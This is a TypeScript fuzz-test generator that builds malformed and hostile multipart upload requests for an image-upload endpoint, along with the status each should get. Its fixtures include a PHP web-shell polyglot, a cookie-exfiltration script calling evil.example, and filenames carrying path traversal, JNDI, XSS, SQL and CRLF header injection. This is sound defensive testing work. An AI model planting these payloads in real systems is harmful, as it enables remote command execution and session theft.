/**
 * Seeded, structure-aware generators for hostile `uploadImage` requests (issue 5, item 7).
 *
 * A case is generated from (seed, index) alone, like the callable cases: the raw bytes of one HTTP
 * request (request line, header lines, body and how it is framed or cut off), which transport
 * serves it (the body streamed from the socket, or already read into `req.rawBody` as the
 * Functions framework does), and what the answer may be. The generator builds multipart bodies
 * by hand, so it can get them wrong in every way a client can: missing, wrong and duplicated
 * boundaries, several file parts, fields, no file part, lying part and request types, truncated
 * and polyglot files, huge headers, unicode and CRLF in file and field names, bodies over the byte
 * cap, bodies cut mid-part (a client that disconnects), empty bodies, other methods, missing and
 * garbage tokens.
 *
 * `expect` is the set of HTTP statuses the handler may answer; it is derived from the order of the
 * service's checks (method, ID token, App Check, request type, declared length, then the body) and
 * from what the body is, never by running the service's own code.
 */
import { mulberry32, subSeed, type ImageCorpus, type Rng } from "./generators.js";

/**
 * The upload fuzz users (only their objects are checked), distinct from the callable fuzz users.
 * Forty of them, so the uploads createJob takes stay well within each user's hourly job quota.
 */
export const UPLOAD_FUZZ_UIDS = Array.from({ length: 40 }, (_, i) => `fuzz-up-${String(i).padStart(2, "0")}`);
/** The App Check token the fuzz harness's verifier accepts. */
export const FUZZ_APP_CHECK = "fuzz-app-check-token";
/** MAX_IMAGE_BYTES while uploads are fuzzed: small, so over-the-cap bodies are cheap to send. */
export const UPLOAD_FUZZ_CAP = 256 * 1024;
/** uploadImage's allowance for boundaries and part headers above the cap (MULTIPART_OVERHEAD_BYTES). */
const OVERHEAD = 64 * 1024;

/** What the handler may answer: its JSON statuses, 204 for a CORS preflight, "none" for a client gone. */
export type Expected = number | "none";

export interface RawRequest {
  method: string;
  /** Header lines as written on the wire (values may hold any byte). */
  headers: [string, string | Buffer][];
  body: Buffer;
  /** How the body is framed: a true Content-Length, chunked, or a length smaller than the body. */
  framing: "length" | "chunked" | "short-length";
  /** With "short-length": the Content-Length sent, smaller than the body. */
  declaredLength?: number;
  /** The client disconnects after this many body bytes (mid-part), never finishing the request. */
  cutAt?: number;
}

export interface UploadCase {
  seed: number;
  index: number;
  uid: string;
  transport: "streaming" | "buffered";
  request: RawRequest;
  /** The same request this many times at once (a race between uploads of one user). */
  parallel: number;
  expect: Expected[];
  /** The bytes a 200 must have stored (the file part's content), when a 200 is possible. */
  file?: Buffer;
  /** After a 200: createJob consumes the upload as its owner, or tries to as another user. */
  consume?: "owner" | "stranger";
  /** A 200 that createJob must then accept (a clean image from the corpus). */
  cleanImage: boolean;
  /** The request carries an Origin header: the answer must carry Access-Control-Allow-Origin. */
  origin: boolean;
  /** Client text (file and field names, tokens) that no answer or log line may echo. */
  secrets: string[];
  tags: string[];
}

// ---------------------------------------------------------------- pieces

/** A distinctive token, so an echo of a generated string is recognisable. */
const token = (rng: Rng, prefix = "fzu") =>
  `${prefix}${Math.floor(rng.next() * 36 ** 7)
    .toString(36)
    .padStart(7, "0")}`;

const JPEG_SOI = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);
const ZIP_TAIL = Buffer.concat([
  Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x0a, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 5, 0, 0, 0]),
  Buffer.from("a.php<?php system($_GET['c']); ?>"),
  Buffer.from([0x50, 0x4b, 0x05, 0x06]),
  Buffer.alloc(18),
]);
const HTML = Buffer.from('<!DOCTYPE html><html><body><script>fetch("https://evil.example/"+document.cookie)</script></body></html>');
const OTHER_IMAGES: Record<string, Buffer> = {
  gif: Buffer.concat([Buffer.from("GIF89a"), Buffer.alloc(120, 1)]),
  tiff: Buffer.concat([Buffer.from([0x49, 0x49, 0x2a, 0x00]), Buffer.alloc(120, 2)]),
  bmp: Buffer.concat([Buffer.from("BM"), Buffer.alloc(120, 3)]),
};

const UNICODE_NAMES = [
  "фото",
  "照片",
  "👩🏽‍🦱",
  "e\u0301",
  "\u202Egpj.exe",
  "\u200B",
  "\uFEFF",
  "ｆｉｌｅ",
  "İ",
  "𝕏",
  "\uFFFD",
  "%00",
  "..%2F..%2F",
  "../../etc/passwd",
  "C:\\Windows\\win.ini",
  "\u0000",
  "\u0007",
  "\u001b[31m",
  "${jndi:ldap://x}",
  "<script>alert(1)</script>",
  "'; DROP TABLE jobs; --",
];

/** A boundary; mostly ordinary, sometimes odd but legal (RFC 2046: up to 70 characters). */
function boundaryOf(rng: Rng): string {
  return rng.pick<() => string>([
    () => `----fuzzboundary${token(rng, "")}`,
    () => `----WebKitFormBoundary${token(rng, "")}${token(rng, "")}`.slice(0, 38),
    () => "x",
    () => `${token(rng, "")}'()+_,-./:=?`,
    () => "b".repeat(70),
  ])();
}

/** A boundary as a Content-Type parameter: quoted when it holds characters a bare token may not. */
const boundaryParam = (boundary: string) => (/^[A-Za-z0-9!#$%&'*+.^_`|~-]+$/.test(boundary) ? boundary : `"${boundary}"`);

interface Part {
  /** Raw header lines, without the line ending. */
  headers: (string | Buffer)[];
  content: Buffer;
}

function assemble(boundary: string, parts: Part[], o: { preamble?: Buffer; epilogue?: Buffer; close?: boolean; eol?: string } = {}): Buffer {
  const eol = o.eol ?? "\r\n";
  const out: Buffer[] = [];
  if (o.preamble) out.push(o.preamble, Buffer.from(eol));
  for (const p of parts) {
    out.push(Buffer.from(`--${boundary}${eol}`));
    for (const h of p.headers) out.push(Buffer.isBuffer(h) ? h : Buffer.from(h, "utf8"), Buffer.from(eol));
    out.push(Buffer.from(eol), p.content, Buffer.from(eol));
  }
  if (o.close !== false) out.push(Buffer.from(`--${boundary}--${eol}`));
  if (o.epilogue) out.push(o.epilogue);
  return Buffer.concat(out);
}

const disposition = (name: string, filename?: string) =>
  `Content-Disposition: form-data; name="${name}"${filename !== undefined ? `; filename="${filename}"` : ""}`;

// ---------------------------------------------------------------- files

interface FileChoice {
  bytes: Buffer;
  /** The part type that tells the truth, or undefined when the bytes are not an accepted image. */
  mime?: string;
  /** What uploadImage must answer for this file in a well-formed body. */
  expect: Expected[];
  clean: boolean;
  tag: string;
}

/** A file part's content: a small real image, or something image-like and broken. */
function pickFile(rng: Rng, corpus: ImageCorpus, exifJpeg: Buffer): FileChoice {
  const face = rng.pick(corpus.faces);
  const mime = `image/${face.format}`;
  const kind = rng.weighted({
    valid: 34,
    exif: 5,
    heic: 4,
    truncated: 8,
    "jpeg-zip": 4,
    "jpeg-html": 4,
    "png-junk": 4,
    "html-jpeg": 3,
    "jpeg-soi-only": 2,
    "non-image": 8,
    "other-image": 4,
    empty: 3,
    "at-cap": 2,
    "over-cap": 6,
    "way-over-cap": 3,
    bomb: 3,
  });
  switch (kind) {
    case "valid":
      return { bytes: face.bytes, mime, expect: [200], clean: true, tag: `valid-${face.format}-${face.size}` };
    case "exif":
      return { bytes: exifJpeg, mime: "image/jpeg", expect: [200], clean: true, tag: "valid-jpeg-exif-gps" };
    case "heic":
      return { bytes: rng.pick(corpus.heic), mime: "image/heic", expect: [200, 415], clean: false, tag: "heic-header" };
    case "truncated": {
      // Cut anywhere past the signature: uploadImage only sniffs the head (createJob finds the rest).
      const keep = rng.int(32, face.bytes.length - 1);
      return { bytes: face.bytes.subarray(0, keep), mime, expect: [200], clean: false, tag: `truncated-${face.format}` };
    }
    case "jpeg-zip":
      return { bytes: Buffer.concat([pickFormat(corpus, "jpeg"), ZIP_TAIL]), mime: "image/jpeg", expect: [200], clean: false, tag: kind };
    case "jpeg-html":
      return { bytes: Buffer.concat([pickFormat(corpus, "jpeg"), HTML]), mime: "image/jpeg", expect: [200], clean: false, tag: kind };
    case "png-junk":
      return {
        bytes: Buffer.concat([pickFormat(corpus, "png"), Buffer.from(Array.from({ length: rng.int(1, 2048) }, () => rng.int(0, 255)))]),
        mime: "image/png",
        expect: [200],
        clean: false,
        tag: kind,
      };
    case "html-jpeg":
      return { bytes: Buffer.concat([HTML, pickFormat(corpus, "jpeg")]), expect: [415], clean: false, tag: kind };
    case "jpeg-soi-only":
      return { bytes: JPEG_SOI.subarray(0, rng.int(3, JPEG_SOI.length)), mime: "image/jpeg", expect: [200], clean: false, tag: kind };
    case "non-image": {
      const n = rng.pick(corpus.nonImages);
      return { bytes: n.bytes, expect: [415], clean: false, tag: `non-image-${n.name}` };
    }
    case "other-image": {
      const name = rng.pick(Object.keys(OTHER_IMAGES));
      return { bytes: OTHER_IMAGES[name]!, expect: [415], clean: false, tag: `unsupported-${name}` };
    }
    case "empty":
      return { bytes: Buffer.alloc(0), expect: [400], clean: false, tag: "empty-file" };
    case "at-cap":
      // Exactly MAX_IMAGE_BYTES is allowed; one byte more is not.
      return { bytes: jpegFiller(UPLOAD_FUZZ_CAP, rng), mime: "image/jpeg", expect: [200], clean: false, tag: "at-cap" };
    case "over-cap": {
      // Within the declared-length allowance: refused mid-stream by the file size limit.
      const size = UPLOAD_FUZZ_CAP + rng.pick([1, 2, rng.int(3, OVERHEAD / 2)]);
      return { bytes: jpegFiller(size, rng), mime: "image/jpeg", expect: [413], clean: false, tag: "over-cap" };
    }
    case "way-over-cap":
      return {
        bytes: jpegFiller(UPLOAD_FUZZ_CAP + OVERHEAD + rng.int(1, 3 * UPLOAD_FUZZ_CAP), rng),
        mime: "image/jpeg",
        expect: [413],
        clean: false,
        tag: "way-over-cap",
      };
    case "bomb": {
      const bomb = rng.pick(corpus.bombs);
      return { bytes: bomb.bytes, mime: bomb.mime, expect: [200], clean: false, tag: `bomb-${bomb.name}` };
    }
  }
}

const pickFormat = (corpus: ImageCorpus, format: string) => corpus.faces.find((f) => f.format === format && f.size === 48)!.bytes;

function jpegFiller(size: number, rng: Rng): Buffer {
  return Buffer.concat([JPEG_SOI, Buffer.alloc(size - JPEG_SOI.length, rng.int(0, 255))]);
}

/** A declared part type that contradicts `mime` (never an alias of it). */
function lyingType(rng: Rng, mime: string): string {
  const families: Record<string, string[]> = {
    "image/jpeg": ["image/jpeg", "image/jpg"],
    "image/png": ["image/png"],
    "image/webp": ["image/webp"],
    "image/heic": ["image/heic", "image/heif"],
  };
  const own = families[mime] ?? [];
  const lies = [
    "image/png",
    "image/jpeg",
    "image/webp",
    "image/heic",
    "image/gif",
    "image/svg+xml",
    "image/avif",
    "text/html",
    "application/zip",
    "video/mp4",
    "application/x-php",
    "image/*",
  ];
  return rng.pick(lies.filter((l) => !own.includes(l)));
}

/** A declared part type that tells the truth in some spelling, or says nothing about the file. */
function honestType(rng: Rng, mime: string): string | undefined {
  return rng.pick<() => string | undefined>([
    () => mime,
    () => mime,
    () => mime.toUpperCase(),
    () => `${mime}; charset=binary`,
    () => (mime === "image/jpeg" ? "image/jpg" : mime),
    () => "application/octet-stream",
    () => "image/", // unparseable: busboy reports it as no type at all (text/plain), like a missing line
    () => undefined, // no Content-Type line at all
  ])();
}

// ---------------------------------------------------------------- the request envelope

/** Headers for one check: `expect` when the check must refuse them, `loosen` for what else may be answered. */
type Envelope = { headers: [string, string | Buffer][]; expect?: Expected[]; loosen?: Expected[]; tags: string[]; secrets: string[] };

function authHeader(rng: Rng, uid: string): Envelope {
  const valid = `test:${uid}`;
  const kind = rng.weighted({ ok: 80, okOddSpacing: 3, okLowercase: 2, missing: 3, garbage: 9, long: 1, huge: 1, duplicate: 1 });
  switch (kind) {
    case "ok":
      return { headers: [["Authorization", `Bearer ${valid}`]], tags: [], secrets: [valid] };
    case "okOddSpacing":
      return { headers: [["Authorization", `Bearer \t ${valid}  `]], tags: ["auth:spacing"], secrets: [valid] };
    case "okLowercase":
      return { headers: [["authorization", `bearer ${valid}`]], tags: ["auth:lowercase"], secrets: [valid] };
    case "missing":
      return { headers: [], expect: [401], tags: ["auth:missing"], secrets: [] };
    case "garbage": {
      const t = token(rng, "fzt");
      const value = rng.pick<() => string | Buffer>([
        () => "Bearer",
        () => "Bearer ",
        () => `Basic ${Buffer.from(`${uid}:${t}`).toString("base64")}`,
        () => `Token ${valid}`,
        () => `Bearer test:`,
        () => `Bearer test:${uid} ${t}`,
        () => `Bearer ${t}`,
        () => `Bearer test:../../${t}`,
        () => `Bearer test:${uid}, Bearer test:${t}`,
        () => Buffer.from(`Bearer test:${uid}\u00e9${t}`, "latin1"),
        () => Buffer.from(`Bearer test:${t}\u{1F600}`, "utf8"),
        () => `Bearer eyJhbGciOiJub25lIn0.eyJ1aWQiOiIke3R9In0.`,
      ])();
      return { headers: [["Authorization", value]], expect: [401], tags: ["auth:garbage"], secrets: [t] };
    }
    case "long": {
      const t = token(rng, "fzt") + "A".repeat(rng.int(2_000, 8_000));
      return { headers: [["Authorization", `Bearer ${t}`]], expect: [401], tags: ["auth:long"], secrets: [t.slice(0, 40)] };
    }
    case "huge": {
      // Over Node's 16 KB header limit: refused by the HTTP parser (431) before any handler runs.
      const t = token(rng, "fzt") + "A".repeat(rng.int(17_000, 40_000));
      return { headers: [["Authorization", `Bearer ${t}`]], expect: [431], tags: ["auth:huge"], secrets: [] };
    }
    case "duplicate": {
      // Node keeps the first Authorization header and drops the rest.
      const t = token(rng, "fzt");
      const first = rng.chance(0.5);
      return {
        headers: [
          ["Authorization", first ? `Bearer ${valid}` : `Bearer ${t}`],
          ["Authorization", first ? `Bearer ${t}` : `Bearer ${valid}`],
        ],
        ...(first ? {} : { expect: [401] }),
        tags: ["auth:duplicate"],
        secrets: [t],
      };
    }
  }
}

function appCheckHeader(rng: Rng): Envelope {
  const kind = rng.weighted({ ok: 92, missing: 3, forged: 3, empty: 1, long: 1 });
  const t = token(rng, "fza");
  switch (kind) {
    case "ok":
      return { headers: [["X-Firebase-AppCheck", FUZZ_APP_CHECK]], tags: [], secrets: [] };
    case "missing":
      return { headers: [], expect: [403], tags: ["appcheck:missing"], secrets: [] };
    case "forged":
      return { headers: [["X-Firebase-AppCheck", rng.chance(0.5) ? t : `${FUZZ_APP_CHECK}${t}`]], expect: [403], tags: ["appcheck:forged"], secrets: [t] };
    case "empty":
      return { headers: [["X-Firebase-AppCheck", "   "]], expect: [403], tags: ["appcheck:empty"], secrets: [] };
    case "long":
      return { headers: [["X-Firebase-AppCheck", t + "B".repeat(rng.int(1_000, 6_000))]], expect: [403], tags: ["appcheck:long"], secrets: [t] };
  }
}

/** The request's Content-Type for a body using `boundary`. */
function requestType(rng: Rng, boundary: string): Envelope & { value?: string } {
  const kind = rng.weighted({ ok: 84, quoted: 3, extraParams: 2, noSpace: 2, upper: 2, wrong: 5, missing: 2 });
  const param = boundaryParam(boundary);
  switch (kind) {
    case "ok":
      return { headers: [], value: `multipart/form-data; boundary=${param}`, tags: [], secrets: [] };
    case "quoted":
      return { headers: [], value: `multipart/form-data; boundary="${boundary}"`, tags: ["ctype:quoted"], secrets: [] };
    case "extraParams":
      return { headers: [], value: `multipart/form-data; charset=utf-8; boundary=${param}; x=y`, tags: ["ctype:params"], secrets: [] };
    case "noSpace":
      return { headers: [], value: `multipart/form-data;boundary=${param}`, tags: ["ctype:nospace"], secrets: [] };
    case "upper":
      return { headers: [], value: `MULTIPART/FORM-DATA; BOUNDARY=${param}`, loosen: [400], tags: ["ctype:upper"], secrets: [] };
    case "wrong": {
      const value = rng.pick([
        "image/jpeg",
        "application/octet-stream",
        "application/json",
        "text/plain",
        "application/x-www-form-urlencoded",
        `multipart/mixed; boundary=${boundary}`,
        `multipart/related; boundary=${boundary}`,
        "multipart/form-data",
        `multipart/form-data${boundary}`,
        `text/html; x=multipart/form-data; boundary=${boundary}`,
      ]);
      return { headers: [], value, expect: [415], tags: ["ctype:wrong"], secrets: [] };
    }
    case "missing":
      return { headers: [], expect: [415], tags: ["ctype:missing"], secrets: [] };
  }
}

// ---------------------------------------------------------------- bodies

interface BodyChoice {
  body: Buffer;
  /** The Content-Type header value (overrides the envelope's, e.g. a missing or duplicated boundary). */
  contentType?: string;
  expect: Expected[];
  file?: Buffer;
  clean: boolean;
  secrets: string[];
  tags: string[];
}

function genBody(rng: Rng, corpus: ImageCorpus, exifJpeg: Buffer, boundary: string): BodyChoice {
  const file = pickFile(rng, corpus, exifJpeg);
  const filename = `${token(rng, "fzf")}.${rng.pick(["jpg", "png", "webp", "heic", "gif", "php", "html", ""])}`;
  const filePart = (type?: string, name = "file", fname: string | Buffer = filename): Part => ({
    headers: [
      typeof fname === "string"
        ? disposition(name, fname)
        : Buffer.concat([Buffer.from(`Content-Disposition: form-data; name="${name}"; filename="`), fname, Buffer.from('"')]),
      ...(type !== undefined ? [`Content-Type: ${type}`] : []),
    ],
    content: file.bytes,
  });
  const honest = () => (file.mime ? honestType(rng, file.mime) : rng.pick([undefined, "image/jpeg", "application/octet-stream"]));
  // A file the service must sniff: non-images get 415 whatever their declared type says.
  const okFile = { file: file.bytes, clean: file.clean, secrets: [filename.split(".")[0]!] };
  const shape = rng.weighted({
    plain: 40,
    preamble: 3,
    epilogue: 3,
    lyingPart: 7,
    unicodeFilename: 4,
    crlfFilename: 3,
    filenameStar: 2,
    hugeFilename: 2,
    manyPartHeaders: 2,
    noFilename: 3,
    wrongName: 4,
    unicodeFieldName: 3,
    twoFiles: 4,
    fieldBefore: 3,
    fieldAfter: 3,
    noFilePart: 3,
    emptyForm: 2,
    unclosed: 3,
    cutMidPart: 3,
    wrongBoundary: 3,
    missingBoundary: 2,
    duplicatedBoundary: 2,
    lfOnly: 2,
    emptyBody: 2,
    garbage: 2,
    nestedMultipart: 1,
    boundaryLookalike: 2,
  });
  const tags = [`body:${shape}`, `file:${file.tag}`];
  const withFile = (parts: Part[], o: Parameters<typeof assemble>[2] = {}) => assemble(boundary, parts, o);
  switch (shape) {
    case "plain":
      return { body: withFile([filePart(honest())]), expect: file.expect, ...okFile, tags };
    case "preamble":
      return {
        body: withFile([filePart(honest())], { preamble: Buffer.from(`This is a preamble ${token(rng)}; ignore it.`) }),
        expect: file.expect,
        ...okFile,
        tags,
      };
    case "epilogue":
      return {
        body: withFile([filePart(honest())], { epilogue: Buffer.concat([HTML, Buffer.from(`\r\n--${boundary}\r\n`)]) }),
        expect: file.expect,
        ...okFile,
        tags,
      };
    case "lyingPart": {
      if (!file.mime) return { body: withFile([filePart(rng.pick(["image/jpeg", "image/png", "text/plain"]))]), expect: file.expect, ...okFile, tags };
      // Bytes that sniff as an image under a type that says otherwise: refused, unless the file is
      // refused for something else first (empty, or over the cap before the head is sniffed).
      const expect: Expected[] = mergeExpect(
        [400],
        file.expect.filter((s) => s !== 200),
      );
      return { body: withFile([filePart(lyingType(rng, file.mime))]), expect, ...okFile, tags };
    }
    case "unicodeFilename": {
      const name = `${rng.pick(UNICODE_NAMES)}${token(rng, "fzf")}${rng.pick(UNICODE_NAMES)}.jpg`;
      const raw = rng.chance(0.5) ? Buffer.from(name, "utf8") : Buffer.from(name, "latin1");
      return { body: withFile([filePart(honest(), "file", raw)]), expect: mergeExpect(file.expect, [400]), ...okFile, tags };
    }
    case "crlfFilename": {
      // Header injection in the part headers: the filename breaks the line.
      const t = token(rng, "fzf");
      const raw = Buffer.from(rng.pick([`a\r\nContent-Type: text/html\r\nX-${t}: 1`, `${t}\r\n\r\n<html>`, `${t}\n.jpg`, `${t}\r.jpg`, `${t}"; name="other`]));
      // Refused as the file would be, or for the part's headers or content the injection changed.
      return { body: withFile([filePart(honest(), "file", raw)]), expect: mergeExpect(file.expect, [400, 415]), ...okFile, secrets: [t], tags };
    }
    case "filenameStar": {
      const part: Part = {
        headers: [
          `Content-Disposition: form-data; name="file"; filename*=UTF-8''%F0%9F%98%80${token(rng, "fzf")}.jpg`,
          ...(file.mime ? [`Content-Type: ${file.mime}`] : []),
        ],
        content: file.bytes,
      };
      return { body: withFile([part]), expect: mergeExpect(file.expect, [400]), ...okFile, tags };
    }
    case "hugeFilename": {
      // Over busboy's 16 KB part-header limit sometimes, under it other times.
      const t = token(rng, "fzf");
      const raw = Buffer.from(t + rng.pick(["A", "é", "👍", "%"]).repeat(rng.int(1_000, 12_000)));
      return { body: withFile([filePart(honest(), "file", raw)]), expect: mergeExpect(file.expect, [400]), ...okFile, secrets: [t], tags };
    }
    case "manyPartHeaders": {
      const n = rng.int(10, 3_000);
      const extra = Array.from({ length: n }, (_, i) => `X-Fuzz-${i}: ${rng.chance(0.1) ? "v".repeat(rng.int(1, 200)) : "v"}`);
      const part = filePart(honest());
      return { body: withFile([{ ...part, headers: [...part.headers, ...extra] }]), expect: mergeExpect(file.expect, [400]), ...okFile, tags };
    }
    case "noFilename":
      // A part without a filename is a field, not a file.
      return {
        body: withFile([{ headers: [disposition("file"), ...(file.mime ? [`Content-Type: ${file.mime}`] : [])], content: file.bytes }]),
        expect: [400],
        clean: false,
        secrets: [],
        tags,
      };
    case "wrongName": {
      const name = rng.pick(["photo", "FILE", "file ", " file", "file[]", "files", "", "image", "file\u0000", "fi\r\nle", "file\r\nContent-Type: text/html"]);
      return { body: withFile([filePart(honest(), name)]), expect: [400], clean: false, secrets: [filename.split(".")[0]!], tags };
    }
    case "unicodeFieldName": {
      const t = token(rng, "fzn");
      const name = `${rng.pick(UNICODE_NAMES)}${t}`;
      return { body: withFile([filePart(honest(), name)]), expect: [400], clean: false, secrets: [t, filename.split(".")[0]!], tags };
    }
    case "twoFiles": {
      const second = rng.pick(["file", "file", "thumbnail", token(rng, "fzn")]);
      const parts = [filePart(honest()), filePart(honest(), second, `${token(rng, "fzf")}.jpg`)];
      if (rng.chance(0.3)) parts.push(filePart(honest()));
      // The first file may be refused for itself before the second part is seen.
      return {
        body: withFile(parts),
        expect: mergeExpect(
          [400],
          file.expect.filter((s) => s !== 200),
        ),
        clean: false,
        secrets: [filename.split(".")[0]!],
        tags,
      };
    }
    case "fieldBefore":
    case "fieldAfter": {
      const field: Part = {
        headers: [disposition(rng.pick(["caption", "uid", "uploadId", "file", token(rng, "fzn")]))],
        content: Buffer.from(rng.pick(["hello", "fuzz-up-01", "", HTML.toString()])),
      };
      const parts = shape === "fieldBefore" ? [field, filePart(honest())] : [filePart(honest()), field];
      const expect: Expected[] =
        shape === "fieldBefore"
          ? [400]
          : mergeExpect(
              [400],
              file.expect.filter((s) => s !== 200),
            );
      return { body: withFile(parts), expect, clean: false, secrets: [filename.split(".")[0]!], tags };
    }
    case "noFilePart": {
      const fields = Array.from({ length: rng.int(1, 3) }, (): Part => ({
        headers: [disposition(rng.pick(["caption", "name", token(rng, "fzn")]))],
        content: Buffer.from(token(rng)),
      }));
      return { body: withFile(fields), expect: [400], clean: false, secrets: [], tags };
    }
    case "emptyForm":
      return { body: Buffer.from(`--${boundary}--\r\n`), expect: [400], clean: false, secrets: [], tags };
    case "unclosed": {
      // Complete as far as it goes, then the body simply ends: no closing boundary, or mid-file.
      const full = withFile([filePart(honest())]);
      const headerEnd = full.indexOf("\r\n\r\n") + 4;
      const cut = rng.chance(0.5) ? full.length - `--${boundary}--\r\n`.length : rng.int(Math.min(headerEnd, full.length - 1), full.length - 1);
      // With no delimiter after it, the CRLF that ended the file counts as file data: at the cap, too large.
      const expect = mergeExpect([400], [...file.expect.filter((s) => s !== 200), ...(file.bytes.length >= UPLOAD_FUZZ_CAP - 1 ? [413] : [])]);
      return { body: full.subarray(0, cut), expect, clean: false, secrets: [filename.split(".")[0]!], tags };
    }
    case "cutMidPart": {
      // A client that disconnects: marked here, cut by the harness (see RawRequest.cutAt).
      return { body: withFile([filePart(honest())]), expect: file.expect, ...okFile, tags };
    }
    case "wrongBoundary": {
      const other = boundaryOf(rng) + "Z";
      return { body: assemble(other, [filePart(honest())]), expect: [400], clean: false, secrets: [filename.split(".")[0]!], tags };
    }
    case "missingBoundary": {
      // No boundary, an empty one, or one with separators left unquoted (not a token: unparseable).
      const odd = `${token(rng, "")}/:=?(),`;
      const contentType = rng.pick([
        "multipart/form-data; boundary=",
        "multipart/form-data; charset=utf-8",
        "multipart/form-data; boundary",
        "multipart/form-data;",
        `multipart/form-data; boundary=${odd}`,
      ]);
      const body = contentType.endsWith(odd) ? assemble(odd, [filePart(honest())]) : withFile([filePart(honest())]);
      return { body, contentType, expect: [400], clean: false, secrets: [], tags };
    }
    case "duplicatedBoundary": {
      const other = `${boundaryOf(rng)}Q`;
      const usesFirst = rng.chance(0.5);
      const body = assemble(usesFirst ? boundary : other, [filePart(honest())]);
      return {
        body,
        contentType: `multipart/form-data; boundary=${boundaryParam(boundary)}; boundary=${boundaryParam(other)}`,
        expect: mergeExpect(file.expect, [400]),
        ...okFile,
        tags,
      };
    }
    case "lfOnly":
      return { body: withFile([filePart(honest())], { eol: "\n" }), expect: mergeExpect(file.expect, [400]), ...okFile, tags };
    case "emptyBody":
      return { body: Buffer.alloc(0), expect: [400], clean: false, secrets: [], tags };
    case "garbage":
      return { body: Buffer.from(Array.from({ length: rng.int(1, 4096) }, () => rng.int(0, 255))), expect: [400], clean: false, secrets: [], tags };
    case "nestedMultipart": {
      const inner = "inner" + token(rng, "");
      const nested: Part = {
        headers: [disposition("file", filename), `Content-Type: multipart/mixed; boundary=${inner}`],
        content: assemble(inner, [filePart(honest())]),
      };
      // Refused for its type, or for its size when the inner file alone was over the cap.
      const expect: Expected[] = nested.content.length > UPLOAD_FUZZ_CAP ? [400, 413, 415] : [400, 415];
      return { body: withFile([nested]), expect, clean: false, secrets: [filename.split(".")[0]!], tags };
    }
    case "boundaryLookalike": {
      // The file holds the boundary without its leading CRLF, and a CRLF-dash run: not a delimiter.
      const content = Buffer.concat([file.bytes, Buffer.from(`--${boundary}\r\n-\r\n--`)]);
      const part: Part = { headers: filePart(honest()).headers, content };
      const expect = file.expect.map((s) => (s === 200 && file.bytes.length + 64 > UPLOAD_FUZZ_CAP ? 413 : s));
      return {
        body: withFile([part]),
        expect: file.expect.includes(200) ? mergeExpect(expect, [413]) : expect,
        file: content,
        clean: false,
        secrets: [filename.split(".")[0]!],
        tags,
      };
    }
  }
}

const mergeExpect = (a: Expected[], b: Expected[]): Expected[] => [...new Set([...a, ...b])];

// ---------------------------------------------------------------- cases

const WRONG_METHODS = ["GET", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "FUZZ", "post"];

/** Sizes of body above which the service refuses on the declared length alone, before reading. */
const DECLARED_LIMIT = UPLOAD_FUZZ_CAP + OVERHEAD;

export function generateUploadCase(seed: number, index: number, corpus: ImageCorpus, exifJpeg: Buffer): UploadCase {
  const rng = mulberry32(subSeed(seed, index, 7));
  const uid = rng.pick(UPLOAD_FUZZ_UIDS);
  const tags: string[] = ["upload"];
  const secrets: string[] = [];
  const transport = rng.chance(0.7) ? "streaming" : "buffered";
  tags.push(`transport:${transport}`);

  const boundary = boundaryOf(rng);
  const body = genBody(rng, corpus, exifJpeg, boundary);
  tags.push(...body.tags);
  secrets.push(...body.secrets);

  let expect: Expected[] | undefined;
  let method = "POST";
  if (rng.chance(0.04)) {
    method = rng.pick(WRONG_METHODS);
    tags.push(`method:${method}`);
    // OPTIONS is a CORS preflight answered by the CORS layer; "post" is not POST (methods are case-sensitive).
    expect = method === "OPTIONS" ? [204] : method === "post" || method === "FUZZ" ? [400, 405] : [405];
  }
  const auth = authHeader(rng, uid);
  const appCheck = appCheckHeader(rng);
  const ctype = requestType(rng, boundary);
  for (const e of [auth, appCheck, ctype]) {
    tags.push(...e.tags);
    secrets.push(...e.secrets);
  }
  const contentType = body.contentType ?? ctype.value;
  const headers: [string, string | Buffer][] = [["Host", "127.0.0.1"], ...auth.headers, ...appCheck.headers];
  if (contentType !== undefined) headers.push(["Content-Type", contentType]);
  const origin = rng.chance(0.1);
  if (origin) headers.push(["Origin", "https://app.example"]);
  if (rng.chance(0.03)) {
    headers.push(["Expect", "100-continue"]); // Node answers 100 Continue before the handler runs
    tags.push("expect-continue");
  }
  if (rng.chance(0.03)) {
    headers.push(["Content-Type", "text/plain"]); // a second Content-Type: Node keeps the first
    tags.push("ctype:second");
  }
  headers.push(["Connection", "close"]);

  // Framing: mostly a true Content-Length; chunked (no declared length) or a length that lies short.
  const framing = rng.weighted({ length: 80, chunked: 17, "short-length": 3 }) as RawRequest["framing"];
  if (framing !== "length") tags.push(`framing:${framing}`);
  // Never within the last bytes: cut there, busboy may already have seen the closing delimiter.
  const canCut = body.body.length > 16;
  let cutAt: number | undefined;
  if (canCut && (body.tags.includes("body:cutMidPart") || rng.chance(0.02))) {
    cutAt = rng.int(1, body.body.length - 9);
    tags.push("cut");
  }
  const declaredLength = framing === "short-length" ? rng.int(0, Math.max(0, body.body.length - 9)) : undefined;

  // The order of the service's checks: method, ID token, App Check, request type, declared length,
  // then the body. The first check a request fails decides the answer.
  const huge = auth.expect?.includes(431);
  const requestTypeRefused = !body.contentType && ctype.expect ? ctype.expect : undefined;
  expect ??= auth.expect ?? appCheck.expect ?? requestTypeRefused;
  if (huge) expect = method === "POST" ? [431] : [400, 431]; // the HTTP parser refuses it before any check
  if (!expect) {
    if (framing === "short-length") {
      // The server reads only the declared bytes: a multipart body cut short (the rest is garbage
      // on the connection, which Node's parser refuses on its own).
      expect = [400, 413, 415];
    } else if (body.body.length > DECLARED_LIMIT && (framing === "length" || transport === "buffered")) {
      expect = [413]; // refused on the declared (or already read) length, before the body is parsed
    } else if (body.body.length > DECLARED_LIMIT) {
      expect = mergeExpect(
        [413],
        body.expect.filter((s) => s !== 200),
      ); // chunked: counted while streaming
    } else {
      expect = mergeExpect(body.expect, ctype.loosen ?? []);
    }
  }
  if (cutAt !== undefined) {
    // Cut off: whatever was answered before the client went (a body refused early), or nothing. A
    // buffered body never reaches the handler. A 200 would need the whole form, which never came.
    expect = mergeExpect(["none"], expect.includes(200) || expect.includes("none") ? [400, 413, 415] : expect);
  }

  const parallel = rng.chance(0.03) ? rng.int(2, 4) : 1;
